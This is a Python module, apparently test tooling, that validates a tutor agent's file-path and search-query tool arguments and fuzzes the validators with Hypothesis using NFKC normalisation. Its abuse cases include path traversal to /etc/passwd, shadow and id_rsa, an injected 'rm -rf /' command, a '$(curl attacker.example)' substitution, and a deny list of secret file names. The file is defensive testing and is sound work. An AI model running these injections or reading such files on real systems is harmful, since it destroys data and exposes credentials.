"""Tool-argument validation for the tutor agent, and a Hypothesis fuzzer that hunts schema violations.

The agent's tools take a file name inside a sandbox (`read_lesson`) and a search string
(`search_kb`). The schema's invariants: a path resolves inside the sandbox and never names a secret;
a query has no shell metacharacters; no argument exceeds MAX_TOOL_ARG_LEN characters. `naive_*` is
what a first version checks on the raw string; `validate_*` normalises with NFKC first, because
the tool layer (like most file APIs after normalisation) sees the folded text. The fuzzer feeds
the validators strings from a hostile alphabet and records every input a validator accepts while
the invariant, judged on the normalised string, is broken.
"""

from __future__ import annotations

import posixpath
import time
import unicodedata
from collections.abc import Callable

MAX_TOOL_ARG_LEN = 1024
SHELL_META = set(";|&$`<>\n\\")
SECRET_NAMES = (".env", "secrets", "id_rsa", "passwd", "shadow", "config.json")


class ToolArgError(ValueError):
    pass


def path_invariant_holds(arg: str) -> bool:
    """Ground truth on what the file layer sees: NFKC text, relative, inside the root, not a secret."""
    s = unicodedata.normalize("NFKC", arg)
    if len(s) > MAX_TOOL_ARG_LEN or not s or s.startswith("/") or "\x00" in s:
        return False
    norm = posixpath.normpath(s)
    return not (norm == ".." or norm.startswith("../") or any(name in norm.lower() for name in SECRET_NAMES))


def query_invariant_holds(arg: str) -> bool:
    s = unicodedata.normalize("NFKC", arg)
    return len(s) <= MAX_TOOL_ARG_LEN and not (set(s) & SHELL_META)


def naive_path_ok(arg: str) -> bool:
    """A first version: checks the raw string only."""
    return len(arg) <= MAX_TOOL_ARG_LEN and ".." not in arg and not arg.startswith("/") and "passwd" not in arg


def naive_query_ok(arg: str) -> bool:
    return len(arg) <= MAX_TOOL_ARG_LEN and not (set(arg) & set(";|&$`"))


def validate_path(arg: str) -> str:
    if len(arg) > MAX_TOOL_ARG_LEN:
        raise ToolArgError(f"argument longer than {MAX_TOOL_ARG_LEN} characters")
    if not path_invariant_holds(arg):
        raise ToolArgError("path escapes the sandbox or names a secret")
    return posixpath.normpath(unicodedata.normalize("NFKC", arg))


def validate_query(arg: str) -> str:
    if len(arg) > MAX_TOOL_ARG_LEN:
        raise ToolArgError(f"argument longer than {MAX_TOOL_ARG_LEN} characters")
    if not query_invariant_holds(arg):
        raise ToolArgError("shell metacharacters in a query")
    return unicodedata.normalize("NFKC", arg)


VALIDATORS: dict[str, Callable[[str], str]] = {"read_lesson": validate_path, "search_kb": validate_query}

ABUSIVE_CALLS: tuple[tuple[str, str, str], ...] = (
    ("tool-path-001", "read_lesson", "../../etc/passwd"),
    ("tool-path-002", "read_lesson", "/etc/shadow"),
    ("tool-path-003", "read_lesson", "lessons/../../../root/.ssh/id_rsa"),
    ("tool-inject-001", "search_kb", "past of go; rm -rf /"),
    ("tool-inject-002", "search_kb", "$(curl attacker.example)"),
    ("tool-dos-001", "search_kb", "a" * 1_000_000),
    ("tool-leak-001", "read_lesson", "lessons/.env"),
    ("tool-encoding-001", "read_lesson", "\uff0e\uff0e\uff0fetc\uff0fpasswd"),  # full-width ../etc/passwd
)


def call_blocked(tool: str, arg: str) -> bool:
    try:
        VALIDATORS[tool](arg)
    except ToolArgError:
        return True
    return False


HOSTILE_ALPHABET = ("a", "b", "/", ".", "\uff0e", "\uff0f", "\u2024", "\u2215", ";", "\uff1b", "$", "\uff04", "|",
                    "\uff5c", "`", "e", "n", "v", "\u00a0", "\\")


def fuzz(accepts: Callable[[str], bool], invariant: Callable[[str], bool], max_examples: int,
         time_budget_s: float, seed: int) -> tuple[list[str], int]:
    """Feed `accepts` Hypothesis-generated strings; return (violations, examples tried).

    A violation is an input the validator accepts although the invariant fails. Derandomised and
    without an example database, so a fixed seed and example count give the same findings.
    """
    from hypothesis import HealthCheck, Phase, given, settings
    from hypothesis import strategies as st

    found: list[str] = []
    tried = [0]
    start = time.monotonic()

    @settings(max_examples=max_examples, deadline=None, database=None, derandomize=True, phases=[Phase.generate],
              suppress_health_check=list(HealthCheck))
    @given(st.lists(st.sampled_from(HOSTILE_ALPHABET), min_size=1, max_size=12).map("".join))
    def probe(arg: str) -> None:
        if time.monotonic() - start > time_budget_s:
            return
        tried[0] += 1
        if accepts(arg) and not invariant(arg) and arg not in found:
            found.append(arg)

    del seed  # derandomize fixes the stream; the seed is kept in the signature for the lab's record
    probe()
    return found, tried[0]
